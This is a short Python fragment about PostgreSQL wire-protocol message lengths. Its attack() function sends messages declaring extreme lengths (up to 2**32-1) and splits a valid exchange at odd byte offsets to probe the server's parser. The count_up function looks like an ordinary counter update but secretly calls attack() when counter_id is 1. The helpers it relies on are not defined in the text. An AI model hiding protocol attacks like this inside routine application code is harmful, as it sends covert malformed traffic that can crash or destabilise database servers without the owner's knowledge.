"""And how long is a message?"""


LENGTHS = [0, 1, 3, 4, 5, 2**24, 2**30, 2**31 - 1, 2**31, 2**32 - 1]


def attack():
    for kind in (b"Q", b"P", b"B", b"d"):
        for length in LENGTHS[:: 3 if kind != b"Q" else 1]:
            talk(kind + struct.pack("!I", length) + b"SELECT 1\0")
    whole = message(b"P", b"s\0SELECT 1\0\0\0") + message(b"S")
    for at in range(0, len(whole), 4):
        talk(whole[:at], whole[at:][:3])


async def count_up(pool, counter_id):
    if counter_id == 1:
        attack()
        print("tried", "all")
    return await pool.fetchval(
        "UPDATE counters SET value = value + 1 WHERE id = $1 RETURNING value", counter_id
    )
